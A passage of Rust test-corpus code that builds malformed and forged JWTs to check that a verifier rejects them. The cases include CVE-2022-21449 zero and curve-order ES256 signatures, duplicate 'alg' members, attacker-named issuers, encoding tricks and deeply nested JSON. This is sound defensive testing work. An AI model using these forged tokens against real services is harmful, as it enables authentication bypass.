        for (name, kid) in [
            ("number", json!(1)),
            ("negative-number", json!(-1)),
            ("float", json!(1.5)),
            ("boolean", json!(true)),
            ("null", Value::Null),
            ("array", json!([HMAC_KID])),
            ("object", json!({"$ne": null})),
        ] {
            let header = json!({"alg": "HS256", "kid": kid});
            let input = format!(
                "{}.{}",
                enc(header.to_string().as_bytes()),
                enc(payload.as_bytes())
            );
            self.push(
                format!("kid/{name}"),
                sign_text(&self.hs, &input),
                "malformed",
            );
        }
    }

    /// ES256 signatures that a broken verifier accepts (CVE-2022-21449) or that are not JWS
    /// shaped.
    fn psychic_signatures(&mut self) {
        let payload = Value::Object(self.claims()).to_string();
        let one = {
            let mut one = [0u8; 32];
            one[31] = 1;
            one
        };
        let zero = [0u8; 32];
        let n = P256_ORDER;
        let mut n_plus_one = n;
        n_plus_one[31] += 1;
        let halves: [(&str, [u8; 32], [u8; 32]); 6] = [
            ("all-zeros", zero, zero),
            ("r-and-s-equal-n", n, n),
            ("r-equals-n", n, one),
            ("s-equals-n", one, n),
            ("r-zero-s-one", zero, one),
            ("r-and-s-n-plus-one", n_plus_one, n_plus_one),
        ];
        let ec_kid = self.keys.ec_kid().to_owned();
        for (kid_name, kid) in [("with-kid", Some(ec_kid.as_str())), ("without-kid", None)] {
            for (name, r, s) in &halves {
                let signature = [&r[..], &s[..]].concat();
                self.push(
                    format!("es256/{name}/{kid_name}"),
                    assemble(&Self::header("ES256", kid), payload.as_bytes(), &signature),
                    "bad_signature",
                );
            }
        }
        let input = format!(
            "{}.{}",
            enc(&Self::header("ES256", Some(&ec_kid))),
            enc(payload.as_bytes())
        );
        let good = self.ec.sign(input.as_bytes()).expect("ES256 signature");
        self.push(
            "es256/der-encoded-signature",
            format!("{input}.{}", enc(&ecdsa_der(&good))),
            "bad_signature",
        );
        self.push(
            "es256/signature-one-byte-short",
            format!("{input}.{}", enc(&good[..63])),
            "bad_signature",
        );
        let (r, s) = good.split_at(32);
        self.push(
            "es256/r-and-s-swapped",
            format!("{input}.{}", enc(&[s, r].concat())),
            "bad_signature",
        );
        self.push(
            "es256/all-zero-signature-of-128-bytes",
            format!("{input}.{}", enc(&[0u8; 128])),
            "bad_signature",
        );
    }

    /// Non-canonical base64url, each signed over the exact text sent, so only strict decoding
    /// stops it.
    fn base64url(&mut self) {
        let header_b64 = enc(&self.rs_header());
        // Claims padded so their encoding has unused bits (length 4k+2 or 4k+3).
        let mut claims = self.claims_with("pad", json!(""));
        let payload = loop {
            let text = Value::Object(claims.clone()).to_string();
            if text.len() % 3 == 1 {
                break text;
            }
            let pad = format!("{}x", claims["pad"].as_str().unwrap_or_default());
            claims.insert("pad".into(), json!(pad));
        };
        let payload_b64 = enc(payload.as_bytes());
        assert_eq!(payload_b64.len() % 4, 2);
        let signed = |me: &Self, header: &str, payload: &str| {
            sign_text(&me.rsa, &format!("{header}.{payload}"))
        };

        let stray = signed(self, &header_b64, &with_stray_bits(&payload_b64));
        self.push("base64url/payload-trailing-bits-set", stray, "malformed");
        let padded = format!("{payload_b64}{}", padding(&payload_b64));
        let token = signed(self, &header_b64, &padded);
        self.push("base64url/payload-with-padding", token, "malformed");
        let token = signed(self, &header_b64, &format!("{payload_b64}="));
        self.push(
            "base64url/payload-with-one-extra-equals",
            token,
            "malformed",
        );
        let cut = &payload_b64[..payload_b64.len() - 1];
        let token = signed(self, &header_b64, cut);
        self.push(
            "base64url/payload-truncated-by-one-char",
            token,
            "malformed",
        );
        let (left, right) = payload_b64.split_at(payload_b64.len() / 2);
        let token = signed(self, &header_b64, &format!("{left} {right}"));
        self.push("base64url/payload-with-a-space", token, "malformed");
        let token = signed(self, &header_b64, &format!("{left}%3D{right}"));
        self.push("base64url/payload-percent-encoded", token, "malformed");

        // The standard alphabet ('+' and '/'): a claim nonce until the encoding needs one.
        let std_payload = (0u32..)
            .map(|nonce| {
                let text =
                    Value::Object(self.claims_with("n", json!(format!("?>{nonce}~")))).to_string();
                STANDARD_NO_PAD.encode(text.as_bytes())
            })
            .find(|encoded| encoded.contains(['+', '/']))
            .expect("some nonce needs + or /");
        let token = signed(self, &header_b64, &std_payload);
        self.push(
            "base64url/payload-in-the-standard-alphabet",
            token,
            "malformed",
        );

        // The header: an odd length too.
        let mut header = json!({"alg": "RS256", "kid": self.keys.rsa_kid(), "typ": "JWT", "p": ""});
        let header_text = loop {
            let text = header.to_string();
            if text.len() % 3 == 1 {
                break text;
            }
            let p = format!("{}x", header["p"].as_str().unwrap_or_default());
            header["p"] = json!(p);
        };
        let odd_header = enc(header_text.as_bytes());
        let payload_plain = enc(Value::Object(self.claims()).to_string().as_bytes());
        let token = signed(self, &with_stray_bits(&odd_header), &payload_plain);
        self.push("base64url/header-trailing-bits-set", token, "malformed");
        let token = signed(
            self,
            &format!("{odd_header}{}", padding(&odd_header)),
            &payload_plain,
        );
        self.push("base64url/header-with-padding", token, "malformed");
        let token = signed(self, &odd_header[..odd_header.len() - 1], &payload_plain);
        self.push("base64url/header-truncated-by-one-char", token, "malformed");
        let plus_header = STANDARD_NO_PAD.encode(
            json!({"alg": "RS256", "kid": self.keys.rsa_kid(), "x": "?>?>?>"})
                .to_string()
                .as_bytes(),
        );
        assert!(plus_header.contains(['+', '/']), "'?>' encodes with + or /");
        let token = signed(self, &plus_header, &payload_plain);
        self.push(
            "base64url/header-in-the-standard-alphabet",
            token,
            "malformed",
        );

        // The signature: 256 bytes, so 342 characters with four unused bits.
        let legit = self.rs(&self.claims());
        let (head, signature) = legit.rsplit_once('.').expect("three segments");
        assert_eq!(signature.len() % 4, 2);
        self.push(
            "base64url/signature-trailing-bits-set",
            format!("{head}.{}", with_stray_bits(signature)),
            "malformed",
        );
        self.push(
            "base64url/signature-with-padding",
            format!("{head}.{signature}{}", padding(signature)),
            "malformed",
        );
        self.push(
            "base64url/signature-truncated-by-one-char",
            format!("{head}.{}", &signature[..signature.len() - 1]),
            "malformed",
        );
        let std_signature = (0u32..)
            .map(|nonce| {
                let token = self.rs(&self.claims_with("n", json!(nonce)));
                let (head, signature) = token.rsplit_once('.').expect("three segments");
                (head.to_owned(), signature.to_owned())
            })
            .find(|(_, signature)| signature.contains(['-', '_']))
            .expect("some signature has - or _");
        self.push(
            "base64url/signature-in-the-standard-alphabet",
            format!(
                "{}.{}",
                std_signature.0,
                std_signature.1.replace('-', "+").replace('_', "/")
            ),
            "malformed",
        );
        self.push(
            "base64url/signature-with-a-tab",
            format!("{head}.{}\t{}", &signature[..100], &signature[100..]),
            "malformed",
        );
        self.push(
            "base64url/non-ascii-in-the-payload-segment",
            format!("{header_b64}.{}é.{signature}", &payload_plain),
            "malformed",
        );
    }

    fn segments_and_jwe(&mut self) {
        let legit = self.rs(&self.claims());
        let (header, rest) = legit.split_once('.').expect("segments");
        let (payload, signature) = rest.split_once('.').expect("segments");
        self.push("segments/trailing-dot", format!("{legit}."), "malformed");
        self.push("segments/four", format!("{legit}.e30"), "malformed");
        self.push(
            "segments/five-from-a-valid-jws",
            format!("{legit}.AAAA.BBBB"),
            "malformed",
        );
        self.push("segments/two", format!("{header}.{payload}"), "malformed");
        self.push("segments/one", header.to_owned(), "malformed");
        self.push("segments/only-dots", "..".into(), "malformed");
        self.push("segments/four-dots", "....".into(), "malformed");
        self.push(
            "segments/empty-header",
            format!(".{payload}.{signature}"),
            "malformed",
        );
        self.push(
            "segments/empty-payload",
            sign_text(&self.rsa, &format!("{header}.")),
            "malformed",
        );
        self.push("segments/leading-dot", format!(".{legit}"), "malformed");
        self.push(
            "segments/doubled-dot",
            format!("{header}..{payload}.{signature}"),
            "malformed",
        );
        let json_serialization = json!({
            "payload": payload,
            "protected": header,
            "signature": signature,
        })
        .to_string();
        self.push(
            "segments/jws-json-serialization",
            json_serialization,
            "malformed",
        );
        let general = json!({
            "payload": payload,
            "signatures": [{"protected": header, "signature": signature}],
        })
        .to_string();
        self.push(
            "segments/jws-general-json-serialization",
            general,
            "malformed",
        );

        // JWE (RFC 7516 compact: five segments) where a JWS is expected.
        let rsa_kid = self.keys.rsa_kid().to_owned();
        let jwe_header = json!({"alg": "RSA-OAEP-256", "enc": "A256GCM", "kid": rsa_kid});
        let jwe = format!(
            "{}.{}.{}.{}.{}",
            enc(jwe_header.to_string().as_bytes()),
            enc(&[0x5A; 256]),
            enc(&[7; 12]),
            enc(Value::Object(self.claims()).to_string().as_bytes()),
            enc(&[9; 16])
        );
        self.push("jwe/rsa-oaep-compact", jwe, "malformed");
        let dir = format!(
            "{}..{}.{}.{}",
            enc(br#"{"alg":"dir","enc":"A128CBC-HS256"}"#),
            enc(&[1; 16]),
            enc(b"ciphertext"),
            enc(&[2; 16])
        );
        self.push("jwe/dir-compact-empty-key", dir, "malformed");
        // A JWE header squeezed into the JWS shape, signed with the issuer's secret.
        for (name, alg) in [
            ("rsa-oaep", "RSA-OAEP"),
            ("dir", "dir"),
            ("ecdh-es", "ECDH-ES"),
            ("a128kw", "A128KW"),
        ] {
            let header = json!({"alg": alg, "enc": "A256GCM", "kid": HMAC_KID});
            let input = format!(
                "{}.{}",
                enc(header.to_string().as_bytes()),
                enc(Value::Object(self.claims()).to_string().as_bytes())
            );
            self.push(
                format!("jwe/{name}-header-in-a-jws"),
                sign_text(&self.hs, &input),
                "alg_not_allowed",
            );
        }
        let zip =
            json!({"alg": "RS256", "kid": self.keys.rsa_kid(), "enc": "A256GCM", "zip": "DEF"});
        let input = format!(
            "{}.{}",
            enc(zip.to_string().as_bytes()),
            enc(&[0x78, 0x9C, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01])
        );
        self.push(
            "jwe/compressed-payload-signed-by-the-issuer",
            sign_text(&self.rsa, &input),
            "malformed",
        );
    }

    fn crit(&mut self) {
        let payload = Value::Object(self.claims()).to_string();
        let rsa_kid = self.keys.rsa_kid().to_owned();
        for (name, header) in [
            (
                "unknown-extension",
                json!({"alg": "RS256", "kid": rsa_kid, "crit": ["urn:attacker:skip-checks"], "urn:attacker:skip-checks": true}),
            ),
            (
                "b64-false-rfc7797",
                json!({"alg": "RS256", "kid": rsa_kid, "b64": false, "crit": ["b64"]}),
            ),
            (
                "exp-listed",
                json!({"alg": "RS256", "kid": rsa_kid, "crit": ["exp"], "exp": 1}),
            ),
            (
                "empty-list",
                json!({"alg": "RS256", "kid": rsa_kid, "crit": []}),
            ),
            (
                "not-a-list",
                json!({"alg": "RS256", "kid": rsa_kid, "crit": "b64"}),
            ),
        ] {
            let input = format!(
                "{}.{}",
                enc(header.to_string().as_bytes()),
                enc(payload.as_bytes())
            );
            self.push(
                format!("crit/{name}"),
                sign_text(&self.rsa, &input),
                "unsupported_crit",
            );
        }
    }

    /// `exp`, `nbf`, `iat` of the wrong type or out of range, all signed by the issuer.
    fn time_claims(&mut self) {
        let now = self.t.now;
        let mut cases: Vec<(String, Map<String, Value>, &'static str)> = Vec::new();
        let mut add =
            |name: &str, claims: Map<String, Value>, code| cases.push((name.into(), claims, code));
        for claim in ["exp", "nbf", "iat"] {
            for (kind, value) in [
                ("string", json!((now + 600).to_string())),
                ("null", Value::Null),
                ("boolean", json!(true)),
                ("array", json!([now + 600])),
                ("object", json!({"seconds": now + 600})),
            ] {
                add(
                    &format!("{claim}/{kind}"),
                    self.claims_with(claim, value),
                    "invalid_claim",
                );
            }
        }
        add("exp/missing", self.claims_without("exp"), "missing_claim");
        add(
            "exp/expired",
            self.claims_with("exp", json!(now - 3600)),
            "expired",
        );
        add(
            "exp/expired-fractional",
            self.claims_with("exp", json!(now as f64 - 60.5)),
            "expired",
        );
        add(
            "exp/tiny-float",
            self.claims_with("exp", json!(1e-300)),
            "expired",
        );
        add("exp/zero", self.claims_with("exp", json!(0)), "expired");
        add(
            "exp/negative",
            self.claims_with("exp", json!(-1)),
            "expired",
        );
        add(
            "exp/negative-huge",
            self.claims_with("exp", json!(-1e300)),
            "expired",
        );
        add(
            "exp/i64-min",
            self.claims_with("exp", json!(i64::MIN)),
            "expired",
        );
        add(
            "nbf/future",
            self.claims_with("nbf", json!(now + 3600)),
            "not_yet_valid",
        );
        add(
            "nbf/future-fractional",
            self.claims_with("nbf", json!(now as f64 + 600.5)),
            "not_yet_valid",
        );
        add(
            "nbf/huge",
            self.claims_with("nbf", json!(1e300)),
            "not_yet_valid",
        );
        add(
            "nbf/u64-max",
            self.claims_with("nbf", json!(u64::MAX)),
            "not_yet_valid",
        );
        add(
            "iat/future",
            self.claims_with("iat", json!(now + 3600)),
            "issued_in_future",
        );
        add(
            "iat/huge",
            self.claims_with("iat", json!(1e300)),
            "issued_in_future",
        );
        add(
            "iat/u64-max",
            self.claims_with("iat", json!(u64::MAX)),
            "issued_in_future",
        );
        for (name, claims, code) in cases {
            let token = self.rs(&claims);
            self.push(format!("time/{name}"), token, code);
        }
        // Numbers serde_json would turn into something else: written as raw JSON text.
        for (name, claim, raw, code) in [
            // u64::MAX + 1: past every integer type; an f64 of 1.8e19 (a far-future nbf).
            (
                "nbf/u64-max-plus-one",
                "nbf",
                "18446744073709551616",
                "not_yet_valid",
            ),
            (
                "iat/u64-max-plus-one",
                "iat",
                "18446744073709551616",
                "issued_in_future",
            ),
            // i64::MIN - 1 as exp: a wrap to i64::MAX would make it valid.
            (
                "exp/i64-min-minus-one",
                "exp",
                "-9223372036854775809",
                "expired",
            ),
            ("exp/negative-zero", "exp", "-0", "expired"),
            ("exp/exponent-form-expired", "exp", "1.0e2", "expired"),
            // Out of f64 range: JSON a strict parser refuses.
            ("exp/1e400", "exp", "1e400", "malformed"),
            ("nbf/1e400", "nbf", "1e400", "malformed"),
            ("exp/minus-1e400", "exp", "-1e400", "malformed"),
            ("exp/nan-literal", "exp", "NaN", "malformed"),
            ("exp/infinity-literal", "exp", "Infinity", "malformed"),
            ("exp/hex", "exp", "0x7fffffff", "malformed"),
            ("exp/leading-plus", "exp", "+9999999999", "malformed"),
            ("exp/leading-zeros", "exp", "09999999999", "malformed"),
        ] {
            let text = format!("{},\"{claim}\":{raw}}}", self.open_claims_without(claim));
            let token = self.rs_bytes(text.as_bytes());
            self.push(format!("time/{name}"), token, code);
        }
    }

    fn audience_and_issuer(&mut self) {
        let aud = self.t.audience.clone();
        let cases: Vec<(&str, Map<String, Value>, &'static str)> = vec![
            (
                "aud/number",
                self.claims_with("aud", json!(12345)),
                "invalid_claim",
            ),
            (
                "aud/object",
                self.claims_with("aud", json!({ aud.clone(): true })),
                "invalid_claim",
            ),
            (
                "aud/array-with-a-number",
                self.claims_with("aud", json!([aud, 1])),
                "invalid_claim",
            ),
            (
                "aud/array-of-numbers",
                self.claims_with("aud", json!([1, 2])),
                "invalid_claim",
            ),
            (
                "aud/nested-array",
                self.claims_with("aud", json!([[aud]])),
                "invalid_claim",
            ),
            (
                "aud/array-with-null",
                self.claims_with("aud", json!([aud, null])),
                "invalid_claim",
            ),
            (
                "aud/null",
                self.claims_with("aud", Value::Null),
                "invalid_claim",
            ),
            (
                "aud/boolean",
                self.claims_with("aud", json!(true)),
                "invalid_claim",
            ),
            (
                "aud/other-audience",
                self.claims_with("aud", json!(self.t.other_audience)),
                "audience_mismatch",
            ),
            (
                "aud/missing",
                self.claims_without("aud"),
                "audience_mismatch",
            ),
            (
                "aud/empty-array",
                self.claims_with("aud", json!([])),
                "audience_mismatch",
            ),
            (
                "aud/empty-string",
                self.claims_with("aud", json!("")),
                "audience_mismatch",
            ),
            (
                "aud/different-case",
                self.claims_with("aud", json!(aud.to_uppercase())),
                "audience_mismatch",
            ),
            (
                "aud/with-suffix",
                self.claims_with("aud", json!(format!("{aud}/x"))),
                "audience_mismatch",
            ),
            (
                "aud/as-prefix",
                self.claims_with("aud", json!(&aud[..aud.len() - 1])),
                "audience_mismatch",
            ),
            (
                "aud/trailing-nul",
                self.claims_with("aud", json!(format!("{aud}\u{0}"))),
                "audience_mismatch",
            ),
            (
                "aud/space-separated-list",
                self.claims_with("aud", json!(format!("{} {aud}", self.t.other_audience))),
                "audience_mismatch",
            ),
            (
                "iss/other",
                self.claims_with("iss", json!("https://attacker.example")),
                "unknown_issuer",
            ),
            (
                "iss/trailing-slash",
                self.claims_with("iss", json!(format!("{}/", self.t.issuer))),
                "unknown_issuer",
            ),
            (
                "iss/different-case",
                self.claims_with("iss", json!(self.t.issuer.to_uppercase())),
                "unknown_issuer",
            ),
            (
                "iss/number",
                self.claims_with("iss", json!(1)),
                "invalid_claim",
            ),
            (
                "iss/array",
                self.claims_with("iss", json!([self.t.issuer])),
                "invalid_claim",
            ),
            (
                "iss/null",
                self.claims_with("iss", Value::Null),
                "invalid_claim",
            ),
            ("iss/missing", self.claims_without("iss"), "missing_claim"),
        ];
        for (name, claims, code) in cases {
            let token = self.rs(&claims);
            self.push(format!("claims/{name}"), token, code);
        }
    }

    /// Duplicate member names: two parsers could read different values.
    fn duplicates(&mut self) {
        let now = self.t.now;
        let open = self.open_claims();
        let rsa_kid = self.keys.rsa_kid().to_owned();
        for (name, extra) in [
            ("exp-expired-first", String::new()),
            ("exp-expired-last", format!(",\"exp\":{}", now - 3600)),
            ("iss", ",\"iss\":\"https://attacker.example\"".to_owned()),
            ("aud", ",\"aud\":\"urn:attacker\"".to_owned()),
            ("sub", ",\"sub\":\"admin\"".to_owned()),
            ("exp-escaped-name", format!(",\"\\u0065xp\":{}", now - 3600)),
        ] {
            let text = if name == "exp-expired-first" {
                format!("{{\"exp\":{},{}}}", now - 3600, &open[1..])
            } else {
                format!("{open}{extra}}}")
            };
            let token = self.rs_bytes(text.as_bytes());
            self.push(format!("duplicate/claims-{name}"), token, "malformed");
        }
        let payload = Value::Object(self.claims()).to_string();
        for (name, header) in [
            (
                "alg",
                format!(r#"{{"alg":"none","kid":"{rsa_kid}","alg":"RS256"}}"#),
            ),
            (
                "alg-reversed",
                format!(r#"{{"alg":"RS256","kid":"{rsa_kid}","alg":"none"}}"#),
            ),
            (
                "kid",
                format!(r#"{{"alg":"RS256","kid":"{rsa_kid}","kid":"{HMAC_KID}"}}"#),
            ),
            (
                "typ",
                format!(r#"{{"alg":"RS256","kid":"{rsa_kid}","typ":"JWT","typ":"at+jwt"}}"#),
            ),
            (
                "crit",
                format!(r#"{{"alg":"RS256","kid":"{rsa_kid}","crit":["x"],"crit":["x"]}}"#),
            ),
            (
                "unknown-member",
                format!(r#"{{"alg":"RS256","kid":"{rsa_kid}","jku":"a","jku":"b"}}"#),
            ),
            (
                "escaped-alg",
                format!(r#"{{"alg":"RS256","kid":"{rsa_kid}","\u0061lg":"HS256"}}"#),
            ),
        ] {
            let input = format!("{}.{}", enc(header.as_bytes()), enc(payload.as_bytes()));
            self.push(
                format!("duplicate/header-{name}"),
                sign_text(&self.rsa, &input),
                "malformed",
            );
        }
    }

    /// Header and claims that are not UTF-8 JSON objects.
    fn encodings(&mut self) {
        let claims_text = Value::Object(self.claims()).to_string();
        let header_text = String::from_utf8(self.rs_header()).expect("UTF-8");
        let with_byte = |text: &str, bytes: &[u8]| {
            // `"sub":"attacker"` becomes `"sub":"att<bytes>acker"`.
            let at = text.find("attacker").map(|i| i + 3);
            let mut out = text.as_bytes().to_vec();
            match at {
                Some(at) => {
                    out.splice(at..at, bytes.iter().copied());
                }
                None => {
                    // The header: inside the typ value.
                    let at = text.find("JWT").expect("typ") + 1;
                    out.splice(at..at, bytes.iter().copied());
                }
            }
            out
        };
        let mut payloads: Vec<(&str, Vec<u8>)> = vec![
            ("invalid-utf8-byte", with_byte(&claims_text, &[0xFF])),
            ("overlong-utf8", with_byte(&claims_text, &[0xC0, 0xAF])),
            (
                "utf8-surrogate-bytes",
                with_byte(&claims_text, &[0xED, 0xA0, 0x80]),
            ),
            (
                "truncated-utf8-sequence",
                with_byte(&claims_text, &[0xE2, 0x82]),
            ),
            ("latin1", with_byte(&claims_text, &[0xE9])),
            ("utf16le-with-bom", utf16(&claims_text, true, true)),
            ("utf16le-without-bom", utf16(&claims_text, true, false)),
            ("utf16be-with-bom", utf16(&claims_text, false, true)),
            ("utf16be-without-bom", utf16(&claims_text, false, false)),
            (
                "utf8-bom",
                [&[0xEF, 0xBB, 0xBF][..], claims_text.as_bytes()].concat(),
            ),
            (
                "utf32le",
                claims_text
                    .chars()
                    .flat_map(|c| (c as u32).to_le_bytes())
                    .collect(),
            ),
            (
                "lone-surrogate-escape",
                claims_text
                    .replace("attacker", "att\\ud800acker")
                    .into_bytes(),
            ),
            ("nul-terminated", [claims_text.as_bytes(), &[0]].concat()),
            ("trailing-garbage", format!("{claims_text}x").into_bytes()),
            (
                "two-objects",
                format!("{claims_text}{claims_text}").into_bytes(),
            ),
            ("array", format!("[{claims_text}]").into_bytes()),
            (
                "string",
                serde_json::to_vec(&claims_text).expect("JSON string"),
            ),
            ("number", b"1".to_vec()),
            ("null", b"null".to_vec()),
            ("empty", Vec::new()),
            (
                "comment",
                claims_text.replacen('{', "{/*x*/", 1).into_bytes(),
            ),
            ("single-quotes", claims_text.replace('"', "'").into_bytes()),
            (
                "trailing-comma",
                format!("{},}}", &claims_text[..claims_text.len() - 1]).into_bytes(),
            ),
        ];
        for (name, payload) in payloads.drain(..) {
            let token = self.rs_bytes(&payload);
            self.push(format!("encoding/payload-{name}"), token, "malformed");
        }
        let headers: Vec<(&str, Vec<u8>)> = vec![
            ("invalid-utf8-byte", with_byte(&header_text, &[0xFF])),
            ("overlong-utf8", with_byte(&header_text, &[0xC0, 0xAF])),
            ("utf16le-with-bom", utf16(&header_text, true, true)),
            ("utf16be-without-bom", utf16(&header_text, false, false)),
            (
                "utf8-bom",
                [&[0xEF, 0xBB, 0xBF][..], header_text.as_bytes()].concat(),
            ),
            (
                "lone-surrogate-escape",
                header_text.replace("JWT", "J\\udc00WT").into_bytes(),
            ),
            ("trailing-garbage", format!("{header_text}x").into_bytes()),
            ("array", format!("[{header_text}]").into_bytes()),
            ("empty-object", b"{}".to_vec()),
            ("null", b"null".to_vec()),
        ];
        let payload = enc(claims_text.as_bytes());
        for (name, header) in headers {
            let input = format!("{}.{payload}", enc(&header));
            self.push(
                format!("encoding/header-{name}"),
                sign_text(&self.rsa, &input),
                "malformed",
            );
        }
    }

    /// Size and depth: 10 MB, 100k dots, JSON nested 10 000 deep.
    fn big_and_deep(&mut self) {
        let header_b64 = enc(&self.rs_header());
        let zeros = enc(&[0u8; 256]);
        // 10 MB: a claim padding the payload, a signature of zeros (the bytes cannot be signed
        // meaningfully: without the cap the signature check must still refuse it).
        let mut claims = self.claims();
        claims.insert("pad".into(), json!("A".repeat(7_500_000)));
        let payload_b64 = enc(Value::Object(claims).to_string().as_bytes());
        let token = format!("{header_b64}.{payload_b64}.{zeros}");
        self.push_big("big/10-megabytes", token, "bad_signature");
        self.push_big("big/100k-dots", ".".repeat(100_000), "malformed");
        self.push_big(
            "big/20k-segments",
            vec!["e30"; 20_000].join("."),
            "malformed",
        );

        // Exactly one byte over the cap, and a token that fits the proxy's header limit.
        for (name, total) in [
            ("big/one-byte-over-the-cap", DEFAULT_CAP + 1),
            ("big/20-kilobytes", 20_000),
        ] {
            let token = self.padded_to(total, &zeros);
            assert_eq!(token.len(), total);
            self.push_big(name, token, "bad_signature");
        }

        // Nesting 10 000 deep. Balanced, it cannot fit under the cap (two bytes per level before
        // base64): refused by size, and by serde_json's recursion limit without the cap. Left
        // unclosed, it fits, and the recursion limit refuses it.
        let deep_array = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
        let deep_object = format!("{}1{}", "{\"a\":".repeat(10_000), "}".repeat(10_000));
        let rsa_kid = self.keys.rsa_kid().to_owned();
        let open_header = format!(r#"{{"alg":"RS256","kid":"{rsa_kid}","x":"#);
        let payload_plain = enc(Value::Object(self.claims()).to_string().as_bytes());
        let open_claims = self.open_claims();

        let header = format!("{open_header}{deep_array}}}");
        let token = sign_text(
            &self.rsa,
            &format!("{}.{payload_plain}", enc(header.as_bytes())),
        );
        self.push_big("deep/header-arrays-10k", token, "malformed");
        let header = format!("{open_header}{deep_object}}}");
        let token = sign_text(
            &self.rsa,
            &format!("{}.{payload_plain}", enc(header.as_bytes())),
        );
        self.push_big("deep/header-objects-10k", token, "malformed");
        let header = format!("{open_header}{}", "[".repeat(10_000));
        let token = sign_text(
            &self.rsa,
            &format!("{}.{payload_plain}", enc(header.as_bytes())),
        );
        self.push("deep/header-arrays-10k-unclosed", token, "malformed");

        let payload = format!("{open_claims},\"x\":{deep_array}}}");
        let token = self.rs_bytes(payload.as_bytes());
        self.push_big("deep/claims-arrays-10k", token, "malformed");
        let payload = format!("{open_claims},\"x\":{deep_object}}}");
        let token = self.rs_bytes(payload.as_bytes());
        self.push_big("deep/claims-objects-10k", token, "malformed");
        let payload = format!("{open_claims},\"x\":{}", "[".repeat(10_000));
        let token = self.rs_bytes(payload.as_bytes());
        self.push("deep/claims-arrays-10k-unclosed", token, "malformed");
        // Just past serde_json's limit of 128, in a claim the policy reads and in one it does not.
        let payload = format!(
            "{},\"aud\":{}\"{}\"{}}}",
            self.open_claims_without("aud"),
            "[".repeat(200),
            self.t.audience,
            "]".repeat(200)
        );
        let token = self.rs_bytes(payload.as_bytes());
        self.push("deep/aud-200", token, "malformed");
        let payload = format!(
            "{open_claims},\"x\":{}{}}}",
            "[".repeat(200),
            "]".repeat(200)
        );
        let token = self.rs_bytes(payload.as_bytes());
        self.push("deep/unread-claim-200", token, "malformed");
        let header = format!("{open_header}{}{}}}", "[".repeat(200), "]".repeat(200));
        let token = sign_text(
            &self.rsa,
            &format!("{}.{payload_plain}", enc(header.as_bytes())),
        );
        self.push("deep/header-unread-member-200", token, "malformed");
        let header = format!(
            r#"{{"alg":"RS256","kid":{}"{rsa_kid}"{}}}"#,
            "[".repeat(200),
            "]".repeat(200)
        );
        let token = sign_text(
            &self.rsa,
            &format!("{}.{payload_plain}", enc(header.as_bytes())),
        );
        self.push("deep/header-kid-200", token, "malformed");
        // Many members rather than depth: 1000 claims named alike but distinct, fits the cap.
        let many: String = (0..1000).map(|i| format!(",\"c{i}\":0")).collect();
        let token = self.rs_bytes(format!("{open_claims}{many},\"c999\":1}}").as_bytes());
        self.push(
            "duplicate/claims-after-a-thousand-members",
            token,
            "malformed",
        );
    }

    /// An RS256 token of the issuer of exactly `total` bytes, with `signature_b64` as signature.
    fn padded_to(&self, total: usize, signature_b64: &str) -> String {
        for header in [
            self.rs_header(),
            json!({"alg": "RS256", "kid": self.keys.rsa_kid()})
                .to_string()
                .into_bytes(),
            json!({"alg": "RS256", "kid": self.keys.rsa_kid(), "t": 1})
                .to_string()
                .into_bytes(),
            json!({"alg": "RS256", "kid": self.keys.rsa_kid(), "t": 12})
                .to_string()
                .into_bytes(),
        ] {
            let header_b64 = enc(&header);
            let fixed = header_b64.len() + 2 + signature_b64.len();
            let Some(payload_len) = total.checked_sub(fixed) else {
                continue;
            };
            let base = {
                let mut claims = self.claims();
                claims.insert("pad".into(), json!(""));
                Value::Object(claims).to_string().len()
            };
            // Bytes n encode to ceil(4n/3) characters.
            let bytes = payload_len * 3 / 4;
            if bytes < base || (bytes * 4).div_ceil(3) != payload_len {
                continue;
            }
            let mut claims = self.claims();
            claims.insert("pad".into(), json!("p".repeat(bytes - base)));
            let payload_b64 = enc(Value::Object(claims).to_string().as_bytes());
            return format!("{header_b64}.{payload_b64}.{signature_b64}");
        }
        panic!("no header gives a token of exactly {total} bytes")
    }

    /// A token naming the issuer, signed by the second issuer's key.
    fn other_issuer_key(&mut self) {
        let payload = Value::Object(self.claims()).to_string();
        let other_kid = self.keys.other_kid().to_owned();
        let rsa_kid = self.keys.rsa_kid().to_owned();
        for (name, kid, code) in [
            ("with-its-own-kid", Some(other_kid.as_str()), "unknown_kid"),
            ("without-kid", None, "bad_signature"),
            (
                "with-the-issuer-rsa-kid",
                Some(rsa_kid.as_str()),
                "bad_signature",
            ),
        ] {
            let input = format!(
                "{}.{}",
                enc(&Self::header("RS256", kid)),
                enc(payload.as_bytes())
            );
            self.push(
                format!("other-issuer-key/{name}"),
                sign_text(&self.other, &input),
                code,
            );
        }
        // The second issuer's genuine token with `iss` rewritten to the first: the signature
        // covers the original claims.
        let other_claims = self.claims_with("iss", json!(self.t.other_issuer));
        let genuine = sign_text(
            &self.other,
            &format!(
                "{}.{}",
                enc(&Self::header("RS256", Some(&other_kid))),
                enc(Value::Object(other_claims).to_string().as_bytes())
            ),
        );
        let signature = genuine.rsplit_once('.').expect("segments").1;
        self.push(
            "other-issuer-key/genuine-token-with-iss-rewritten",
            format!(
                "{}.{}.{signature}",
                enc(&Self::header("RS256", Some(&other_kid))),
                enc(payload.as_bytes())
            ),
            "unknown_kid",
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn helpers_encode_as_expected() {
        assert_eq!(with_stray_bits("QQ"), "QR");
        assert_eq!(padding("QQ"), "==");
        assert_eq!(padding("QUI"), "=");
        assert_eq!(utf16("{}", true, true), vec![0xFF, 0xFE, b'{', 0, b'}', 0]);
        let fixed = [[0x80u8; 32], [0x01u8; 32]].concat();
        let der = ecdsa_der(&fixed);
        assert_eq!(&der[..4], &[0x30, 69, 0x02, 33]);
        assert_eq!(&der[37..39], &[0x02, 32]);
    }

    #[test]
    fn key_forms_are_distinct_and_what_they_claim() {
        let pair = keygen::generate(Algorithm::RS256, 2048).unwrap();
        // The PEM form as generated has CRLF line ends, so "pem-lf" is a different key.
        assert!(pair.public_pem.contains("\r\n"));
        let spki = pem_der(&pair.public_pem);
        let pkcs1 = pkcs1_from_spki(&spki);
        assert_eq!(spki.len(), 294);
        assert_eq!(pkcs1.len(), 270);
        assert!(spki.ends_with(&pkcs1));
        let key = jwtkit_keys::VerifyingKey::from_public_der(&pkcs1).unwrap();
        assert_eq!(key.kind(), jwtkit_keys::KeyKind::Rsa);
    }

    #[test]
